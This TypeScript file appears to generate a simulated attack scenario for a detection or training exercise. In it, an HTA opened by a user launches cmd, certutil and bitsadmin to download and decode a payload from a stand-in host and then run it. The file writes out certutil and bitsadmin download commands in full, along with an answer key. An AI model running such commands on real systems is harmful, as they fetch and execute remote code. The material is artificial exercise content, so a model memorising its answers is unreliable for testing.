import { raise } from '../alerts';
import { alarms } from './alarms.data';
import { connect, touchFile } from '../events';
import { hashOf, type FileRef } from '../files';
import { minute, second } from '../window';
import type { Story } from './stage';

const source = { name: 'files.update-mirror.example', ip: '198.51.100.88' };

const commandsFor = (text: FileRef, fetched: FileRef) =>
  [
    ['certutil', `certutil.exe -urlcache -split -f http://${source.name}/pkg.txt ${text.path}`, text],
    ['certutil', `certutil.exe -decode ${text.path} ${fetched.path}`, fetched],
    [
      'bitsadmin',
      `bitsadmin.exe /transfer job1 /download /priority high http://${source.name}/tools.zip C:\\Users\\Public\\tools.zip`,
      undefined,
    ],
  ] as const;

/** Two programs that Windows brings fetch a file that neither was made for. */
export const download: Story = (stage) => {
  const { world } = stage;
  const { person, actor } = stage.victim('office');
  const at = stage.when(13, person.from + 2, actor.device);
  const boot = actor.boot(at);
  const script = actor.run('mshta', {
    at,
    parent: boot.explorer ?? boot.services,
    command: `"C:\\Windows\\System32\\mshta.exe" "C:\\Users\\${person.name}\\Downloads\\shipping-label.hta"`,
    images: ['wininet'],
  });
  const shell = actor.run('cmd', { at: at + 3 * second, parent: script, command: 'cmd.exe /c C:\\Users\\Public\\get.bat' });
  const text = world.files.add('C:\\Users\\Public\\pkg.txt', { content: 'encoded package', size: 512_000 });
  const fetched = world.files.add('C:\\Users\\Public\\pkg.exe', {
    content: 'fetched package',
    size: 384_000,
    threat: 'TrojanDownloader:Win32/Sample',
  });
  const commands = commandsFor(text, fetched);
  commands.forEach(([key, command, file], index) => {
    const when = at + (10 + index * 25) * second;
    const process = actor.run(key, { at: when, parent: shell, command });
    if (command.includes('http://'))
      connect(actor.act(key === 'bitsadmin' ? boot.host('BITS') : process, when + second), { ip: source.ip, port: 80, url: source.name });
    if (file)
      touchFile(actor.act(process, when + 2 * second), file, {
        ActionType: 'FileCreated',
        ...(file === text && { FileOriginUrl: `http://${source.name}/pkg.txt` }),
      });
  });
  const tools = world.files.add('C:\\Users\\Public\\tools.zip', { size: 2_400_000 });
  touchFile(actor.act(boot.host('BITS'), at + 80 * second), tools, {
    ActionType: 'FileCreated',
    FileOriginUrl: `http://${source.name}/tools.zip`,
  });
  const ran = actor.journal.start({ file: fetched, at: at + 2 * minute, parent: shell, command: fetched.path });
  raise(world, {
    ...alarms.download,
    at: at + 4 * minute,
    evidence: [{ device: actor.device }, { device: actor.device, process: ran }, { account: person }, { ip: source.ip, url: source.name }],
  });
  return {
    story: `An HTA file that ${person.display} opened used certutil and bitsadmin to fetch and decode a program, and ran it.`,
    answers: {
      'download-tools': commands.map(([, command]) => [actor.device.name, person.name, command]),
      'download-run': [[actor.device.name, fetched.path, hashOf(fetched, 'sha1')]],
    },
  };
};
